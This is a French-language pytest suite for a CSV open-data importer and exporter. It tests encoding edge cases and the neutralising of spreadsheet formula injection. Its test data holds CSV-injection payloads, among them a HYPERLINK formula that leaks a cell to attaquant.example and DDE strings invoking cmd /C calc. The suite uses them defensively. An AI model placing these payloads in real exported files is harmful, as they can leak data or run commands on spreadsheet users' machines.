"""Attaques contre l'import et l'export CSV des données ouvertes (issue 12, parties 3 et 4).

Partie 3 — un import ne réécrit jamais un bon texte :
- un fichier UTF-8 sans BOM avec un seul octet errant, lu hier en Windows-1252, mettait à jour
  tous les services en mojibake (« BibliothÃ¨que »), code de sortie 0;
- un fichier qui changerait plusieurs noms seulement par l'encodage passait sans rien demander;
- les cinq octets que Windows-1252 ne définit pas (0x81, 0x8D, 0x8F, 0x90, 0x9D) devenaient U+FFFD;
- les fichiers UTF-16 (le « Texte Unicode » d'Excel) étaient refusés comme « pas un CSV »;
- un volume de 23 chiffres levait OverflowError; ``nan`` passait pour une cible;
- ``/dev/zero`` se lisait sans fin, un tube nommé bloquait l'ouverture.

Partie 4, moitié CSV — ce que l'application écrit n'attaque pas son lecteur : une cellule qui
commence par ``=``, ``+``, ``-``, ``@``, tabulation ou retour chariot est neutralisée par une
apostrophe (recommandation OWASP sur l'injection CSV) dans l'export et le rapport d'import, et
l'import la relit inchangée.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from fichiers_gc import (
    fichier_actuel,
    fichier_normes,
    ligne_actuelle,
    ligne_norme,
    lignes_actuelles,
    texte_csv,
)
from gesserv_bureau.cas import donnees_ouvertes
from gesserv_bureau.domaine import fichier_csv, importation
from gesserv_bureau.domaine.service import Volume
from gesserv_bureau.referentiel.donnees_ouvertes import COLONNES_ACTUELLES, COLONNES_NORMES
from gesserv_bureau.stockage.base import ouvrir
from gesserv_bureau.stockage.depot_normes import DepotNormes
from gesserv_bureau.stockage.depot_services import DepotServices
from outils_tests import RACINE, lancer_cli

NOMS = ["Bibliothèque publique", "Délivrance des permis", "Prêts étudiants", "Élections fédérales",
        "Pêches côtières", "Sécurité alimentaire", "Aéroports régionaux", "Forêts et rivières"]


def _lignes_accentuees(n: int = len(NOMS)) -> list[dict[str, str]]:
    return [ligne_actuelle(service_id=f"S{i:03d}", service_name_fr=NOMS[i % len(NOMS)],
                           service_name_en=f"Service {i}", num_applications_online=str(10 + i),
                           num_applications_total=str(35 + i))
            for i in range(n)]


def _texte(lignes, separateur=",") -> str:
    return texte_csv(COLONNES_ACTUELLES, lignes, separateur=separateur)


def _noms(base) -> dict[str, str]:
    return {s.service_id: s.nom_fr for s in DepotServices(base).services()}


def _base_remplie(tmp_path, nom="r.sqlite"):
    base = ouvrir(tmp_path / nom)
    _a, r = donnees_ouvertes.importer_fichier(base, fichier_actuel(tmp_path, "origine.csv", _lignes_accentuees()))
    assert r is not None and r.crees == len(NOMS)
    return base


# --- partie 3 : l'encodage décidé sur pièces -------------------------------------------------
@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
def test_un_octet_errant_dans_un_fichier_utf8_ne_change_aucun_nom(tmp_path, bom):
    base = _base_remplie(tmp_path)
    avant = _noms(base)
    octets = bom + _texte(_lignes_accentuees()).encode("utf-8")
    # un seul octet Windows-1252 (è) dans la description de la première ligne de données
    octets = octets.replace("Protège".encode(), b"Prot\xe8ge", 1)
    numero = octets[: octets.index(b"Prot\xe8ge")].count(b"\n") + 1
    chemin = tmp_path / "un-octet.csv"
    chemin.write_bytes(octets)
    analyse, resultat = donnees_ouvertes.importer_fichier(base, chemin)
    assert analyse.lecture.encodage == "utf-8"
    assert resultat is None                          # rien d'importé tant que la ligne n'est pas corrigée
    assert [(p.ligne, p.code) for p in analyse.erreurs] == [(numero, "octet_invalide_utf8")]
    assert "0xE8" in analyse.erreurs[0].texte("fr") and "0xE8" in analyse.erreurs[0].texte("en")
    assert "Prot\\xe8ge" in analyse.erreurs[0].valeur
    assert "encodage_windows" not in [p.code for p in analyse.problemes]
    assert _noms(base) == avant
    # les autres lignes sont bien lues en UTF-8
    assert {s.nom_fr for _, s in analyse.services} <= set(NOMS)
    base.fermer()


def test_un_octet_errant_par_la_ligne_de_commande(tmp_path, chemin_cli, capsys):
    with ouvrir(chemin_cli) as base:
        donnees_ouvertes.importer_fichier(base, fichier_actuel(tmp_path, "origine.csv", _lignes_accentuees()))
        avant = _noms(base)
    octets = _texte(_lignes_accentuees()).encode("utf-8").replace("Élections".encode(), b"\xc9lections")
    numero = octets[: octets.index(b"\xc9lections")].count(b"\n") + 1
    (tmp_path / "x.csv").write_bytes(octets)
    code, sortie, erreurs = lancer_cli(capsys, "importer", str(tmp_path / "x.csv"))
    assert code == 1
    assert f"ligne {numero}," in erreurs and "0xC9" in erreurs and "Rien n'a été importé" in erreurs
    with ouvrir(chemin_cli) as base:
        assert _noms(base) == avant


def test_un_fichier_windows_1252_reste_lu_en_windows_1252(tmp_path):
    chemin = tmp_path / "cp.csv"
    chemin.write_bytes(_texte(_lignes_accentuees()).encode("cp1252"))
    analyse = importation.analyser(chemin)
    assert analyse.lecture.encodage == "cp1252" and analyse.importable
    assert [s.nom_fr for _, s in analyse.services] == NOMS
    assert "encodage_windows" in [p.code for p in analyse.avertissements]


@pytest.mark.parametrize("octet", [0x81, 0x8D, 0x8F, 0x90, 0x9D])
def test_les_octets_que_windows_1252_ne_definit_pas_sont_signales(tmp_path, octet):
    texte = _texte(_lignes_accentuees())
    octets = texte.encode("cp1252").replace("Pêches".encode("cp1252"), b"P\xeaches" + bytes([octet]), 1)
    numero = octets[: octets.index(bytes([octet]))].count(b"\n") + 1
    chemin = tmp_path / "cp.csv"
    chemin.write_bytes(octets)
    analyse = importation.analyser(chemin)
    assert analyse.lecture.encodage == "cp1252"
    assert [(p.ligne, p.code) for p in analyse.erreurs] == [(numero, "octet_non_defini_cp1252")]
    assert f"0x{octet:02X}" in analyse.erreurs[0].texte("fr")
    assert not analyse.importable
    assert all("\ufffd" not in s.nom_fr for _, s in analyse.services)


def test_un_reimport_qui_changerait_des_noms_par_l_encodage_demande_confirmation(tmp_path):
    base = _base_remplie(tmp_path)
    avant = _noms(base)
    # le même répertoire, passé par un outil qui a relu l'UTF-8 en Windows-1252 puis réécrit
    abime = _texte(_lignes_accentuees()).encode("utf-8").decode("cp1252", errors="replace")
    chemin = tmp_path / "abime.csv"
    chemin.write_bytes(abime.encode("utf-8"))
    analyse = donnees_ouvertes.analyser(base, chemin)
    assert analyse.importable and analyse.confirmation_encodage
    changements = analyse.changements_encodage
    assert len(changements) >= 4
    premier = changements[0]
    assert (premier.avant, premier.apres) == ("Bibliothèque publique", "BibliothÃ¨que publique")
    with pytest.raises(ValueError):
        donnees_ouvertes.importer(base, analyse)
    _a, r = donnees_ouvertes.importer_fichier(base, chemin)
    assert r is None and _noms(base) == avant
    # confirmé : l'import se fait
    _a, r = donnees_ouvertes.importer_fichier(base, chemin, confirmer_encodage=True)
    assert r is not None and r.modifies == len(NOMS)
    assert _noms(base)["S000"] == "BibliothÃ¨que publique"
    base.fermer()


def test_reparer_des_noms_abimes_par_l_encodage_demande_aussi_confirmation(tmp_path):
    """Le cas inverse : le répertoire a reçu du mojibake (l'ancien import), le bon fichier le
    réparerait — l'import montre aussi les changements et attend qu'on confirme."""
    base = ouvrir(tmp_path / "r.sqlite")
    abime = _texte(_lignes_accentuees()).encode("utf-8").decode("cp1252", errors="replace")
    (tmp_path / "abime.csv").write_bytes(abime.encode("utf-8"))
    donnees_ouvertes.importer_fichier(base, tmp_path / "abime.csv")
    analyse, r = donnees_ouvertes.importer_fichier(base, fichier_actuel(tmp_path, "bon.csv", _lignes_accentuees()))
    assert r is None and analyse.confirmation_encodage
    assert (analyse.changements_encodage[0].avant, analyse.changements_encodage[0].apres) == (
        "BibliothÃ¨que publique", "Bibliothèque publique")
    _a, r = donnees_ouvertes.importer_fichier(base, tmp_path / "bon.csv", confirmer_encodage=True)
    assert r.modifies == len(NOMS) and _noms(base)["S000"] == "Bibliothèque publique"
    base.fermer()


def test_quelques_noms_changes_par_l_encodage_passent_avec_un_avertissement(tmp_path):
    base = _base_remplie(tmp_path)
    lignes = _lignes_accentuees()
    lignes[0]["service_name_fr"] = "BibliothÃ¨que publique"
    analyse = donnees_ouvertes.analyser(base, fichier_actuel(tmp_path, "un.csv", lignes))
    assert not analyse.confirmation_encodage
    assert [p.code for p in analyse.avertissements if p.code == "changement_encodage"] == ["changement_encodage"]
    base.fermer()


def test_la_ligne_de_commande_refuse_sans_confirmer_l_encodage(tmp_path, chemin_cli, capsys):
    with ouvrir(chemin_cli) as base:
        donnees_ouvertes.importer_fichier(base, fichier_actuel(tmp_path, "origine.csv", _lignes_accentuees()))
        avant = _noms(base)
    abime = _texte(_lignes_accentuees()).encode("utf-8").decode("cp1252", errors="replace")
    (tmp_path / "abime.csv").write_bytes(abime.encode("utf-8"))
    code, sortie, erreurs = lancer_cli(capsys, "importer", str(tmp_path / "abime.csv"))
    assert code == 1
    assert "--confirmer-encodage" in erreurs
    assert "« Bibliothèque publique » → « BibliothÃ¨que publique »" in erreurs
    with ouvrir(chemin_cli) as base:
        assert _noms(base) == avant
    code, sortie, erreurs = lancer_cli(capsys, "--langue", "en", "importer", str(tmp_path / "abime.csv"))
    assert code == 1 and "--confirmer-encodage" in erreurs and "encoding" in erreurs
    code, sortie, _ = lancer_cli(capsys, "importer", str(tmp_path / "abime.csv"), "--confirmer-encodage")
    assert code == 0 and f"mis à jour : {len(NOMS)}" in sortie


def test_le_dialogue_montre_les_changements_d_encodage_et_demande(qtbot, tmp_path, monkeypatch):
    from PySide6.QtCore import Qt
    from PySide6.QtWidgets import QMessageBox

    from outils_interface import ouvrir_fenetre

    fenetre = ouvrir_fenetre(qtbot, tmp_path / "f.sqlite", "fr", demo=False)
    donnees_ouvertes.importer_fichier(fenetre.base, fichier_actuel(tmp_path, "origine.csv", _lignes_accentuees()))
    avant = _noms(fenetre.base)
    abime = _texte(_lignes_accentuees()).encode("utf-8").decode("cp1252", errors="replace")
    (tmp_path / "abime.csv").write_bytes(abime.encode("utf-8"))
    montrees = []
    reponse = [QMessageBox.StandardButton.No]

    def exec_(boite):
        montrees.append((boite.text(), boite.detailedText(), boite.textFormat()))
        return reponse[0]

    monkeypatch.setattr(QMessageBox, "exec", exec_)
    dialogue = fenetre.importer_donnees(tmp_path / "abime.csv")
    qtbot.waitUntil(lambda: not dialogue._en_cours and dialogue.analyse is not None, timeout=10000)
    assert dialogue.bouton_importer.isEnabled()
    qtbot.mouseClick(dialogue.bouton_importer, Qt.MouseButton.LeftButton)
    assert len(montrees) == 1
    texte, details, format_ = montrees[0]
    assert format_ == Qt.TextFormat.PlainText
    assert "8 services" in texte
    assert "« Bibliothèque publique » → « BibliothÃ¨que publique »" in details
    assert dialogue.resultat is None and _noms(fenetre.base) == avant   # refusé : rien d'écrit
    reponse[0] = QMessageBox.StandardButton.Yes
    qtbot.mouseClick(dialogue.bouton_importer, Qt.MouseButton.LeftButton)
    qtbot.waitUntil(lambda: dialogue.resultat is not None, timeout=10000)
    assert dialogue.resultat.modifies == len(NOMS)
    dialogue.close()


def _utf16(texte: str, codec: str, bom: bytes = b"") -> bytes:
    return bom + texte.encode(codec)


@pytest.mark.parametrize("codec, bom", [
    ("utf-16-le", b"\xff\xfe"),   # le « Texte Unicode » d'Excel : UTF-16LE avec BOM, tabulations
    ("utf-16-be", b"\xfe\xff"),
    ("utf-32-le", b"\xff\xfe\x00\x00"),
])
def test_un_fichier_utf16_avec_bom_se_lit(tmp_path, codec, bom):
    chemin = tmp_path / "unicode.txt"
    chemin.write_bytes(_utf16(_texte(_lignes_accentuees(), separateur="\t"), codec, bom))
    analyse = importation.analyser(chemin)
    assert analyse.lecture.separateur == "\t" and analyse.importable
    assert [s.nom_fr for _, s in analyse.services] == NOMS
    assert analyse.lecture.encodage == codec


def test_un_fichier_utf16_sans_bom_se_lit_et_le_dit(tmp_path):
    chemin = tmp_path / "sans-bom.txt"
    chemin.write_bytes(_texte(_lignes_accentuees(), separateur="\t").encode("utf-16-le"))
    analyse = importation.analyser(chemin)
    assert [s.nom_fr for _, s in analyse.services] == NOMS
    avertissement = next(p for p in analyse.avertissements if p.code == "encodage_utf16_sans_bom")
    assert "UTF-16" in avertissement.texte("fr") and "UTF-16" in avertissement.texte("en")


@pytest.mark.parametrize("octets, encodage", [
    (b"\xff\xfe\x00\x00" + "fiscal_yr\t".encode("utf-32-le") + b"\x00\x00\x11\x00", "UTF-32"),  # > U+10FFFF
    (b"\xff\xfe" + "fiscal_yr\tservice_id\r\n".encode("utf-16-le") + b"\x00", "UTF-16"),  # coupé en deux
    (b"\xff\xfe" + b"\x00\xd8A\x00\r\x00\n\x00", "UTF-16"),   # une demi-paire de substitution
])
def test_un_fichier_illisible_dans_son_encodage_est_refuse_en_le_nommant(tmp_path, octets, encodage):
    chemin = tmp_path / "bizarre.txt"
    chemin.write_bytes(octets)
    with pytest.raises(fichier_csv.ErreurFichier) as exc:
        importation.analyser(chemin)
    assert encodage in exc.value.texte("fr") and encodage in exc.value.texte("en")


# --- partie 3 : des valeurs et des fichiers hors normes --------------------------------------
def test_un_volume_de_23_chiffres_est_une_erreur_de_ligne(tmp_path):
    base = ouvrir(tmp_path / "r.sqlite")
    lignes = lignes_actuelles()
    lignes[0]["num_applications_online"] = "12345678901234567890123"
    lignes[1]["num_website_visits"] = "99999999999999999999999"
    analyse, resultat = donnees_ouvertes.importer_fichier(base, fichier_actuel(tmp_path, "gros.csv", lignes))
    assert resultat is None
    assert [(p.ligne, p.colonne, p.code) for p in analyse.erreurs] == [
        (2, "num_applications_online", "nombre_trop_grand"), (5, "num_website_visits", "nombre_trop_grand")]
    assert "trop grand" in analyse.erreurs[0].texte("fr") and "too large" in analyse.erreurs[0].texte("en")
    assert DepotServices(base).nombre() == 0
    base.fermer()


def test_un_grand_nombre_n_est_jamais_arrondi(tmp_path):
    lignes = lignes_actuelles()
    lignes[0]["num_applications_online"] = "9007199254740993"   # 2**53 + 1 : float l'arrondirait
    analyse = importation.analyser(fichier_actuel(tmp_path, "precis.csv", lignes))
    assert analyse.importable
    assert analyse.services[0][1].volumes["en_ligne"] == Volume("donnees", 9007199254740993, None)


def test_des_normes_au_volume_immense_ou_a_la_cible_infinie(tmp_path):
    base = ouvrir(tmp_path / "r.sqlite")
    lignes = [ligne_norme(total_volume="1" * 23), ligne_norme(service_standard_id="N2", target="nan"),
              ligne_norme(service_standard_id="N3", performance="inf")]
    chemin = tmp_path / "normes.csv"
    chemin.write_bytes(texte_csv(COLONNES_NORMES, lignes).encode("utf-8-sig"))
    analyse, resultat = donnees_ouvertes.importer_fichier(base, chemin)
    assert resultat is None
    assert [(p.colonne, p.code) for p in analyse.erreurs] == [
        ("total_volume", "nombre_trop_grand"), ("target", "decimal_invalide"), ("performance", "decimal_invalide")]
    assert DepotNormes(base).nombre() == 0
    base.fermer()


def test_un_nom_de_5000_caracteres_arrive_intact(tmp_path):
    base = ouvrir(tmp_path / "r.sqlite")
    lignes = lignes_actuelles()
    long = "Délivrance " + "é" * 4989
    lignes[0]["service_name_fr"] = long
    _a, r = donnees_ouvertes.importer_fichier(base, fichier_actuel(tmp_path, "long.csv", lignes))
    assert r is not None and r.crees == 3
    assert len(long) == 5000 and long in _noms(base).values()
    base.fermer()


def _cli_borne(tmp_path, *args: str) -> subprocess.CompletedProcess:
    """La ligne de commande dans un processus à part, bornée en temps et en mémoire : le code
    d'avant lisait /dev/zero sans fin."""
    import resource

    def borner():
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    env = {**os.environ, "PYTHONPATH": str(RACINE), "GESSERV_BASE": str(tmp_path / "cli.sqlite")}
    return subprocess.run([sys.executable, "-m", "gesserv_bureau", *args], capture_output=True, text=True,
                          env=env, timeout=60, preexec_fn=borner)


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="pas de /dev/zero")
def test_dev_zero_est_refuse_par_un_message(tmp_path):
    fini = _cli_borne(tmp_path, "importer", "/dev/zero")
    assert fini.returncode == 1, fini.stderr
    assert "Traceback" not in fini.stderr
    assert "n'est pas un fichier ordinaire" in fini.stderr


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="pas de tubes nommés")
def test_un_tube_nomme_est_refuse_sans_bloquer(tmp_path):
    tube = tmp_path / "tube.csv"
    os.mkfifo(tube)
    with pytest.raises(fichier_csv.ErreurFichier) as exc:
        importation.analyser(tube)
    assert exc.value.code == "pas_un_fichier"
    assert "tube.csv" in exc.value.texte("en") and "not a regular file" in exc.value.texte("en")


def test_la_lecture_est_bornee_meme_si_la_taille_annoncee_ment(tmp_path, monkeypatch):
    chemin = fichier_actuel(tmp_path)
    vrai_stat, vrai_fstat = os.stat, os.fstat

    def menteur(vrai):   # comme /proc : taille annoncée 0, contenu réel plus gros
        def stat(*a, **k):
            r = vrai(*a, **k)
            return os.stat_result((r.st_mode, r.st_ino, r.st_dev, r.st_nlink, r.st_uid, r.st_gid, 0,
                                   r.st_atime, r.st_mtime, r.st_ctime))
        return stat

    monkeypatch.setattr(fichier_csv.os, "stat", menteur(vrai_stat))
    monkeypatch.setattr(fichier_csv.os, "fstat", menteur(vrai_fstat))
    monkeypatch.setattr(fichier_csv, "LIMITE_MO", chemin.stat().st_size / 2 / 1024 / 1024)
    with pytest.raises(fichier_csv.ErreurFichier) as exc:
        importation.analyser(chemin)
    assert exc.value.code == "trop_volumineux"


# --- partie 4 : l'injection CSV --------------------------------------------------------------
PIEGES = {
    "service_name_fr": '=HYPERLINK("http://attaquant.example/?"&A1,"Cliquez")',
    "service_name_en": "+cmd|' /C calc'!A0",
    "service_description_fr": "-2+3+cmd|' /C calc'!A0",
    "service_description_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "program_name_fr": "\t=1+1",
    "program_name_en": "\r=1+1",
    "special_remarks_en": "'ordinaire, sans danger",
}


def _cellules(octets: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(octets.decode("utf-8-sig"), newline="")))


def _dangereuse(valeur: str) -> bool:
    """Un tableur la prendrait pour une formule (un nombre négatif tout seul n'en est pas une)."""
    return valeur[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"-\d+([.,]\d+)?", valeur)


def test_l_export_neutralise_les_cellules_qui_seraient_des_formules(tmp_path):
    base = ouvrir(tmp_path / "r.sqlite")
    lignes = [ligne_actuelle(**PIEGES)]
    _a, r = donnees_ouvertes.importer_fichier(base, fichier_actuel(tmp_path, "pieges.csv", lignes))
    assert r is not None
    depot = DepotServices(base)
    service = depot.services()[0]
    assert service.nom_fr == PIEGES["service_name_fr"] and service.nom_en == PIEGES["service_name_en"]
    service.programme_id = "'=saisi avec une apostrophe"   # tapé tel quel dans le formulaire
    depot.enregistrer(service)
    service = depot.services()[0]
    sortie = tmp_path / "export.csv"
    donnees_ouvertes.exporter_csv(base, sortie)
    cellules = _cellules(sortie.read_bytes())[0]
    assert not [c for c, v in cellules.items() if _dangereuse(v)]
    assert cellules["service_name_fr"] == "'" + PIEGES["service_name_fr"]
    assert cellules["program_id"] == "''=saisi avec une apostrophe"
    assert cellules["special_remarks_en"] == "'ordinaire, sans danger"
    # relu, l'export redonne les mêmes services, et de nouveau le même fichier
    with ouvrir(tmp_path / "relu.sqlite") as relue:
        donnees_ouvertes.importer_fichier(relue, sortie)
        relu = DepotServices(relue).services()[0]
        assert relu.copie(pk=None, modifie_le="") == service.copie(pk=None, modifie_le="")
        assert relu.nom_fr == PIEGES["service_name_fr"]
        donnees_ouvertes.exporter_csv(relue, tmp_path / "export2.csv")
    assert (tmp_path / "export2.csv").read_bytes() == sortie.read_bytes()
    base.fermer()


def test_l_export_des_normes_neutralise_aussi(tmp_path):
    base = ouvrir(tmp_path / "r.sqlite")
    donnees_ouvertes.importer_fichier(base, fichier_actuel(tmp_path))
    lignes = [ligne_norme(service_standard_fr="=1+1", comments_en="@SUM(A1)", target="-0.5")]
    chemin = tmp_path / "normes.csv"
    chemin.write_bytes(texte_csv(COLONNES_NORMES, lignes).encode("utf-8-sig"))
    _a, r = donnees_ouvertes.importer_fichier(base, chemin)
    assert r is not None
    sortie = tmp_path / "normes-export.csv"
    donnees_ouvertes.exporter_normes_csv(base, sortie)
    cellules = _cellules(sortie.read_bytes())[0]
    assert not [c for c, v in cellules.items() if _dangereuse(v)]
    assert cellules["service_standard_fr"] == "'=1+1"
    assert cellules["target"] == "-0.5"   # un nombre négatif tout seul ne cache aucune formule
    with ouvrir(tmp_path / "relu.sqlite") as relue:
        donnees_ouvertes.importer_fichier(relue, fichier_actuel(tmp_path))
        donnees_ouvertes.importer_fichier(relue, sortie)
        norme = DepotNormes(relue).pour_exercice()[0]
        assert (norme.norme_fr, norme.commentaires_en, norme.cible) == ("=1+1", "@SUM(A1)", -0.5)
    base.fermer()


def test_le_rapport_d_import_neutralise_les_valeurs_du_fichier(tmp_path, chemin_cli, capsys):
    lignes = lignes_actuelles()
    lignes[0]["num_applications_online"] = "=cmd|' /C calc'!A0"
    lignes[1]["num_applications_in_person"] = "-1+1"
    chemin = fichier_actuel(tmp_path, "mauvais.csv", lignes)
    code, _s, _e = lancer_cli(capsys, "importer", str(chemin), "--rapport", str(tmp_path / "rapport.csv"))
    assert code == 1
    rangees = list(csv.reader(io.StringIO((tmp_path / "rapport.csv").read_bytes().decode("utf-8-sig"))))
    assert not [v for r in rangees for v in r if _dangereuse(v)]
    valeurs = [r[2] for r in rangees[1:]]
    assert "'=cmd|' /C calc'!A0" in valeurs and "'-1+1" in valeurs
    texte = importation.rapport_csv(importation.analyser(chemin).problemes, "en")
    assert not [v for r in csv.reader(io.StringIO(texte)) for v in r if _dangereuse(v)]


def test_le_classeur_xlsx_n_a_aucune_formule(tmp_path):
    base = ouvrir(tmp_path / "r.sqlite")
    donnees_ouvertes.importer_fichier(base, fichier_actuel(tmp_path, "pieges.csv", [ligne_actuelle(**PIEGES)]))
    donnees_ouvertes.exporter_xlsx(base, tmp_path / "x.xlsx")
    with zipfile.ZipFile(tmp_path / "x.xlsx") as z:
        feuilles = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert feuilles and not any("<f>" in f or "<f " in f for f in feuilles)
    from openpyxl import load_workbook

    cellules = [c for f in load_workbook(tmp_path / "x.xlsx").worksheets for r in f.iter_rows() for c in r]
    assert PIEGES["service_name_fr"] in [c.value for c in cellules]
    assert all(c.data_type != "f" for c in cellules)
    base.fermer()
